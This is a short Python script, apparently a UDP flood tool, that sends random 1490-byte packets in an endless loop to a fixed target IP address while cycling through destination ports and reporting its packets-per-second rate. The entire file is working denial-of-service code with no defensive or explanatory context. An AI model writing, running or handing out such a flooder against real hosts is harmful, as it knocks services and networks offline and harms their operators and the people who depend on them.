import random
import socket
import time

ip = "203.0.113.120"
port = 80
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
payload = random._urandom(1490)
sent = 0
start = time.time()
while True:
    sock.sendto(payload, (ip, port))
    sent += 1
    port = port + 1 if port < 65534 else 1
    if sent % 100000 == 0:
        print(f"sent {sent} packets, {sent / (time.time() - start):.0f} pps")
